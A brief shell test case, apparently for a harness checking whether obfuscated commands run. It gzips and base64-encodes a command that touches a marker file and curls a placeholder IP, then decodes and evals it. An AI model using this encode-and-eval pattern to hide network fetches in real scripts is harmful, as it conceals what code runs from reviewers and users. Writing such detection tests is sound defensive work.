#!/bin/sh
. /opt/case/case.sh

c=$(printf 'touch /tmp/reached; curl -s http://203.0.113.10/x >/dev/null' | gzip -9 | openssl base64 -A)
eval "$(echo "$c" | openssl base64 -d -A | gzip -d)"
test -e /tmp/reached
took_place
